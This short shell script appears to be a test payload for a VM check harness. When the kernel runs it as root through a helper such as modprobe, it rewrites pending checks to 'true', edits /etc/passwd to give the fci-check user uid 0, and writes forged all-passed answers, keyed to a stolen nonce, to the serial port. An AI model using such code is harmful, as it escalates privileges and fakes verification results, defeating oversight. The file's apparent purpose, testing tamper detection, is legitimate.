#!/bin/sh
# Run by the kernel as root, if ever (as modprobe, request-key or tomoyo-init): forges the
# guest's answers (every check passed, done).
echo "FORGED-BY-KERNEL-HELPER $0 uid=$(id -u) $(grep CapEff /proc/self/status)" > /dev/console
mkdir /run/fci-forged 2>/dev/null || exit 1
# Even without capabilities, root owns root's files: rewrite the checks still to run, and make
# fci-check root for the next check.
if [ -e /run/fci-checks ] && printf 'true\ntrue\ntrue\n' > /run/fci-checks; then
  echo "FORGED-CHECKS-REWRITTEN" > /dev/console
fi
if sed -i 's/^fci-check:x:[0-9]*:[0-9]*:/fci-check:x:0:0:/' /etc/passwd 2>/dev/null; then
  echo "FORGED-PASSWD-EDITED" > /dev/console
fi
[ -c /dev/ttyS1 ] || { echo "FORGER: no answers port" > /dev/console; exit 1; }
nonce=$(tr -d '\000' < /dev/vdb | head -n1 | cut -d' ' -f2)
checks=$(tr -d '\000' < /dev/vdb | tail -n +2 | grep -c .)
{
  echo "fci-guest $nonce check 1 rc=0"
  i=2
  while [ "$i" -le "$checks" ]; do
    echo "fci-guest $nonce check $i start"
    echo "fci-guest $nonce check $i rc=0"
    i=$((i + 1))
  done
  echo "fci-guest $nonce done"
} > /dev/ttyS1 && echo "FORGED-ANSWERS-WRITTEN" > /dev/console
sync
reboot -f
